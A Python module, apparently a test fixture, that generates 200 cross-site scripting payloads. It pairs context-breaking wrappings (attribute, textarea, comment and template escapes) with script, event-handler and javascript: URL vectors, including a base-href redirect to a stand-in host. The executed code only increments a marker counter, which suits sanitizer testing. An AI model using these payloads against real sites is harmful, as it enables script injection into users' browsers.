"""Two hundred ways to smuggle a script into a page: every wrapping of every way to run something."""

from collections.abc import Sequence
from itertools import product

_RUN = "window.__ran=(window.__ran||0)+1"
_WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "{{{{7*7}}}}{}",
    "\u202e{}",
)
_VECTORS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f'<iframe srcdoc="&lt;script&gt;{_RUN}&lt;/script&gt;"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f"<math><mi xlink:href=javascript:{_RUN}>x</mi></math>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f'<object data="javascript:{_RUN}"></object>',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    f"<video><source onerror={_RUN}></video>",
    f'<link rel=stylesheet href="javascript:{_RUN}"><base href="//evil.invalid/">',
    f"<template><script>{_RUN}</script></template><style>@import 'javascript:{_RUN}'</style>",
)
PAYLOADS = tuple(wrapping.format(vector) for wrapping, vector in product(_WRAPPINGS, _VECTORS))


def batched(payloads: Sequence[str], size: int) -> list[str]:
    """The payloads, so many at a time, each batch as one text."""
    return ["".join(payloads[start : start + size]) for start in range(0, len(payloads), size)]
